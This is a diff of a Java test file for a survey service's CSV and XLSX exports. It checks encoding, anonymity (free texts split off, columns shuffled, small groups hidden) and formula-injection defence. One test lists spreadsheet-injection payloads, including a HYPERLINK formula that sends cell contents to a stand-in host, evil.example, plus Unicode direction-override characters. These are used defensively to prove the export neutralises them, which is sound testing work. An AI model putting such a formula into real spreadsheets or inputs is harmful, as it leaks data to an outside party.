@@ -42,7 +42,8 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 /**
  * The CSV and XLSX exports read back as a spreadsheet program reads them: UTF-8 (with a byte order mark in the
  * CSV), Turkish and Arabic text intact, flow version and language present, and nothing that leads back to a
- * conversation (no id, no resume code).
+ * conversation (no id, no resume code). The free texts are apart from the rows (their own CSV, their own sheet),
+ * each text question's column in an order of its own.
  */
 @SharedService
 class ExportTest {
@@ -68,6 +69,7 @@ class ExportTest {
     PageHttp http;
     Team team;
     String cookie;
+    long managerId;
     List<String> ids = new ArrayList<>();
 
     @BeforeEach
@@ -75,6 +77,7 @@ class ExportTest {
         http = new PageHttp(server.getURL().toString());
         team = teams.create("Export " + UUID.randomUUID().toString().substring(0, 8), List.of());
         Account manager = accounts.create("export-" + UUID.randomUUID().toString().substring(0, 8), PASSWORD, Role.MANAGER);
+        managerId = manager.id();
         teams.addMember(team.id(), manager.id());
         cookie = http.login(manager.username(), PASSWORD);
         for (String text : TURKISH) {
@@ -86,7 +89,12 @@ class ExportTest {
     }
 
     private byte[] download(String kind, String contentType) {
-        HttpResponse<byte[]> r = get("/dashboard/teams/" + team.id() + "/flows/" + FLOW + "/export." + kind + "?lang=nl");
+        return download(team, FLOW, "export." + kind, contentType);
+    }
+
+    /** {@code file}: "export.csv", "export.xlsx" or "export-texts.csv". */
+    private byte[] download(Team of, String flow, String file, String contentType) {
+        HttpResponse<byte[]> r = get("/dashboard/teams/" + of.id() + "/flows/" + flow + "/" + file + "?lang=nl");
         assertEquals(200, r.statusCode());
         assertTrue(r.headers().firstValue("content-type").orElse("").startsWith(contentType), r.headers().toString());
         assertTrue(r.headers().firstValue("content-disposition").orElse("").startsWith("attachment; filename=\"samenspraak-"));
@@ -102,23 +110,27 @@ class ExportTest {
         }
     }
 
-    /** The export has a row per finished conversation, the texts as typed, and no way back to a conversation. */
+    /**
+     * The rows: one per finished conversation, its answers to the closed questions and no free text (a text in Turkish
+     * told the row of one of few Turkish speakers, whose Language column the file hides), no way back to a conversation.
+     */
     private void assertAnonymousAnswers(List<String> header, List<List<String>> rows, String everything) {
         assertEquals(List.of("Rij", "Versie", "Taal", "Wijk", "Periode"), header.subList(0, 5));
-        assertTrue(header.contains("opmerking") && header.contains("vaardig_tolk"), header.toString());
+        assertTrue(header.contains("vaardig_tolk"), header.toString());
+        assertFalse(header.contains("opmerking"), "no column of free text in the rows: " + header);
+        for (String text : concat(TURKISH, ARABIC)) {
+            assertFalse(everything.contains(text), "no free text in the rows: " + text);
+        }
         assertEquals(10, rows.size());
-        int opmerking = header.indexOf("opmerking");
-        Set<String> texts = rows.stream().map(r -> r.get(opmerking)).collect(Collectors.toSet());
-        assertEquals(new HashSet<>(concat(TURKISH, ARABIC)), texts, "Turkish and Arabic text intact");
         assertEquals(Set.of("1", "2", "3", "4", "5", "6", "7", "8", "9", "10"), rows.stream().map(r -> r.get(0)).collect(Collectors.toSet()));
         String version = library.flow(FLOW).orElseThrow().version();
         assertTrue(rows.stream().allMatch(r -> r.get(1).equals(version)), "the flow version");
-        for (List<String> row : rows) {
-            String language = TURKISH.contains(row.get(opmerking)) ? "tr" : "ar";
-            assertEquals(language, row.get(2), "the language it was answered in");
-        }
         int tolk = header.indexOf("vaardig_tolk");
-        assertTrue(rows.stream().anyMatch(r -> r.get(tolk).equals("Met een professionele tolk of de tolkentelefoon")), "answers in words");
+        String professional = "Met een professionele tolk of de tolkentelefoon";
+        for (List<String> row : rows) {
+            assertEquals(row.get(tolk).equals(professional) ? "tr" : "ar", row.get(2), "the language it was answered in");
+        }
+        assertEquals(5, rows.stream().filter(r -> r.get(tolk).equals(professional)).count(), "answers in words");
         for (String id : ids) {
             ConversationRecord c = conversations.findById(id).orElseThrow();
             assertFalse(everything.contains(c.id()), "no conversation id");
@@ -126,11 +138,24 @@ class ExportTest {
         }
     }
 
+    /** The texts apart: a column per text question, its texts as typed, nothing else (no row number, no language). */
+    private static void assertTexts(List<List<String>> records) {
+        assertEquals(List.of("opmerking"), records.get(0), "a header only");
+        List<String> texts = records.subList(1, records.size()).stream().map(r -> r.get(0)).toList();
+        assertEquals(10, texts.size());
+        assertEquals(new HashSet<>(concat(TURKISH, ARABIC)), new HashSet<>(texts), "Turkish and Arabic text intact");
+    }
+
     @Test
     void theCsvIsUtf8WithAByteOrderMarkAndReadsBack() throws IOException {
         byte[] csv = download("csv", "text/csv");
         assertArrayEquals(new byte[]{(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(csv, 3), "a UTF-8 byte order mark");
         String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
+        assertAnonymousAnswers(parse(csv).get(0), parse(csv).subList(1, parse(csv).size()), text);
+    }
+
+    /** Read with the library the service writes with; {@link nl.samenspraak.support.ExcelCsv} reads as Excel does. */
+    private static List<List<String>> parse(byte[] csv) throws IOException {
         List<List<String>> records = new ArrayList<>();
         try (CSVParser parser = CSVParser.parse(new InputStreamReader(new ByteArrayInputStream(csv, 3, csv.length - 3),
                 StandardCharsets.UTF_8), ExportFiles.CSV)) {
@@ -138,28 +163,54 @@ class ExportTest {
                 records.add(r.toList());
             }
         }
-        assertAnonymousAnswers(records.get(0), records.subList(1, records.size()), text);
+        return records;
+    }
+
+    /** The texts have a CSV of their own, as the rows' (UTF-8 with a byte order mark), linked from the flow page. */
+    @Test
+    void theTextsCsvHoldsEveryTextIntactAndNothingElse() throws IOException {
+        byte[] csv = download(team, FLOW, "export-texts.csv", "text/csv");
+        assertArrayEquals(new byte[]{(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(csv, 3), "a UTF-8 byte order mark");
+        assertTexts(parse(csv));
+        assertEquals(parse(csv), nl.samenspraak.support.ExcelCsv.read(csv).stream().map(r -> (List<String>) r).toList(),
+                "Excel reads the same");
+        String page = new String(get("/dashboard/teams/" + team.id() + "/flows/" + FLOW + "?lang=nl").body(), StandardCharsets.UTF_8);
+        assertTrue(page.contains("id=\"export-texts-csv\" href=\"/dashboard/teams/" + team.id() + "/flows/" + FLOW + "/export-texts.csv?")
+                && page.contains("Download antwoorden in eigen woorden als CSV"), "the flow page links to it");
+    }
+
+    /** Each sheet of a workbook by name, in order, its rows as the cells' texts (a blank cell ""). */
+    private static Map<String, List<List<String>>> sheets(byte[] xlsx) throws IOException {
+        Map<String, List<List<String>>> sheets = new java.util.LinkedHashMap<>();
+        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
+            for (var sheet : workbook.getSheets().toList()) {
+                List<List<String>> records = new ArrayList<>();
+                try (var rows = sheet.openStream()) {
+                    rows.forEach((Row row) -> {
+                        List<String> cells = new ArrayList<>();
+                        for (int c = 0; c < row.getCellCount(); c++) {
+                            String text = row.getCellText(c);
+                            cells.add(text == null ? "" : text);
+                        }
+                        records.add(cells);
+                    });
+                }
+                sheets.put(sheet.getName(), records);
+            }
+        }
+        return sheets;
     }
 
     @Test
-    void theXlsxReadsBackWithTheSameAnswers() throws IOException {
+    void theXlsxReadsBackWithTheAnswersAndTheTextsOnASheetOfTheirOwn() throws IOException {
         byte[] xlsx = download("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
-        List<List<String>> records = new ArrayList<>();
+        Map<String, List<List<String>>> sheets = sheets(xlsx);
+        assertEquals(List.of("Antwoorden", "Eigen woorden"), List.copyOf(sheets.keySet()), "the rows, then the texts");
+        List<List<String>> records = sheets.get("Antwoorden");
         StringBuilder everything = new StringBuilder();
-        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
-            assertEquals("Antwoorden", workbook.getFirstSheet().getName());
-            try (var rows = workbook.getFirstSheet().openStream()) {
-                rows.forEach((Row row) -> {
-                    List<String> cells = new ArrayList<>();
-                    for (int c = 0; c < row.getCellCount(); c++) {
-                        cells.add(row.getCellText(c));
-                    }
-                    records.add(cells);
-                    everything.append(cells).append('\n');
-                });
-            }
-        }
+        records.forEach(r -> everything.append(r).append('\n'));
         assertAnonymousAnswers(records.get(0), records.subList(1, records.size()), everything.toString());
+        assertTexts(sheets.get("Eigen woorden"));
         // the row numbers are numbers a spreadsheet can add up (every cell was text: AVERAGE found nothing)
         try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx));
              var rows = workbook.getFirstSheet().openStream()) {
@@ -169,38 +220,74 @@ class ExportTest {
         }
     }
 
+    /**
+     * The probe's case: a text tells who wrote it (its language, a street), and beside a person's other answers it
+     * told those too. A resident's two texts are not on one line of the texts' table either: each column has its own
+     * random order. Twenty-four residents each write both: that every pair lines up by luck is a chance of 1 in 24!.
+     */
+    @Test
+    void aResidentsTwoTextsDoNotStayOnOneLine() throws IOException {
+        Team wijkteam = teams.create("Export wijk " + UUID.randomUUID().toString().substring(0, 8), List.of("West"));
+        teams.addMember(wijkteam.id(), managerId);
+        int residents = 24;
+        for (int i = 0; i < residents; i++) {
+            respondents.finish("wijkanalyse", "nl", new Origin(wijkteam.id(), "West"),
+                    Map.of("goed_in_wijk", "Goed " + i, "beter_in_wijk", "Beter " + i));
+        }
+        for (byte[] file : List.of(download(wijkteam, "wijkanalyse", "export-texts.csv", "text/csv"),
+                download(wijkteam, "wijkanalyse", "export.xlsx", "application/vnd"))) {
+            List<List<String>> texts = file[0] == (byte) 0xEF ? nl.samenspraak.support.ExcelCsv.read(file) : sheets(file).get("Eigen woorden");
+            int goed = texts.get(0).indexOf("goed_in_wijk");
+            int beter = texts.get(0).indexOf("beter_in_wijk");
+            assertTrue(goed >= 0 && beter >= 0, texts.get(0).toString());
+            List<List<String>> lines = texts.subList(1, texts.size());
+            assertEquals(residents, lines.size());
+            Set<String> goeds = lines.stream().map(l -> l.get(goed)).collect(Collectors.toSet());
+            assertEquals(residents, goeds.size(), "every text, once: " + goeds);
+            assertTrue(goeds.stream().allMatch(t -> t.startsWith("Goed ")));
+            long together = lines.stream().filter(l -> l.get(beter).equals(l.get(goed).replace("Goed", "Beter"))).count();
+            assertTrue(together < residents, "a resident's two texts on one line, every one of them");
+        }
+    }
+
     @Test
     void aColumnThatWouldSingleSomeoneOutIsHidden() {
         respondents.finish(FLOW, "pl", Origin.team(team.id()), Map.of("opmerking", "Dziękuję"));
         String csv = new String(download("csv", "text/csv"), StandardCharsets.UTF_8);
-        assertTrue(csv.contains("Dziękuję"), "eleven wrote a remark, so the remarks are there");
-        assertFalse(csv.contains(";pl;"), "but not that one person answered in Polish");
+        assertFalse(csv.contains(";pl;"), "not that one person answered in Polish");
         assertTrue(csv.contains("(verborgen: minder dan 5)"));
+        assertFalse(csv.contains("Dziękuję"), "and their remark is not in the rows");
+        String texts = new String(download(team, FLOW, "export-texts.csv", "text/csv"), StandardCharsets.UTF_8);
+        assertTrue(texts.contains("Dziękuję"), "eleven wrote a remark, so the remarks are there, apart");
     }
 
     /**
      * A respondent's text that Excel would run as a formula (OWASP's payloads) reaches the manager's CSV as plain
      * text: read back as Excel reads it, no cell starts a formula and each text stands there after an apostrophe.
+     * Direction overrides typed in a text are gone from both files (the text reads in the file as it was written).
      */
     @Test
-    void formulasTypedByRespondentsDoNotRunInTheCsv() {
+    void formulasTypedByRespondentsDoNotRunInTheTextsCsv() throws IOException {
         List<String> payloads = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "=1+1", "+1+1", "-2+3", "@SUM(1+1)");
         for (String payload : payloads) {
             respondents.finish(FLOW, "nl", Origin.team(team.id()), Map.of("opmerking", payload));
         }
-        List<List<String>> records = nl.samenspraak.support.ExcelCsv.read(download("csv", "text/csv"));
-        int opmerking = records.get(0).indexOf("opmerking");
-        assertEquals(16, records.size(), "a header and fifteen respondents");
+        respondents.finish(FLOW, "nl", Origin.team(team.id()), Map.of("opmerking", "Goed\u202E werk\u2066 hier\u2069"));
+        List<List<String>> records = nl.samenspraak.support.ExcelCsv.read(download(team, FLOW, "export-texts.csv", "text/csv"));
+        assertEquals(17, records.size(), "a header and sixteen remarks");
         for (List<String> record : records) {
             for (String cell : record) {
                 assertFalse(nl.samenspraak.support.ExcelCsv.runsAsFormula(cell), cell);
             }
         }
-        Set<String> texts = records.stream().map(r -> r.get(opmerking)).collect(Collectors.toSet());
+        Set<String> texts = records.stream().map(r -> r.get(0)).collect(Collectors.toSet());
         for (String payload : payloads) {
             assertTrue(texts.contains("'" + payload), payload + " kept as text in " + texts);
         }
         assertTrue(texts.containsAll(TURKISH), "ordinary texts unchanged");
+        assertTrue(texts.contains("Goed werk hier"), "no direction controls: " + texts);
+        List<String> sheet = sheets(download("xlsx", "application/vnd")).get("Eigen woorden").stream().map(r -> r.get(0)).toList();
+        assertTrue(sheet.contains("Goed werk hier") && sheet.contains("=1+1"), "the sheet's cells are text, never a formula: " + sheet);
     }
 
     private static List<String> concat(List<String> a, List<String> b) {
